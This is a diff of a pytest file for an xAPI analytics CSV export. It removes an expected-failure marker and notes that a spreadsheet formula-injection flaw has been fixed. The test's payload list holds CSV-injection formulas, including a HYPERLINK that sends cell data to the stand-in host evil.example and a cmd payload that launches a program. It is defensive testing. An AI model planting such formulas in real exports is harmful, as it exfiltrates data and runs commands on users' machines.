@@ -61,11 +61,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C cal
             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 
 
-@pytest.mark.xfail(strict=True, reason="analytics/columns.py CsvWriter writes a statement's strings as they are: a "
-                                       "cell starting with = + - @ TAB or CR is a formula to Excel/LibreOffice/Sheets "
-                                       "(fix: prefix such string cells with a single quote; leave JSON numbers as "
-                                       "they are; document it in docs/analytics.md)")
 def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(xapi):
+    # Found in this review, fixed by the exports' authors (a46cfcb): a leading single quote on such text cells.
     import csv
     import io
     statements = [{"actor": {"mbox": "mailto:formula@example.com", "name": text},
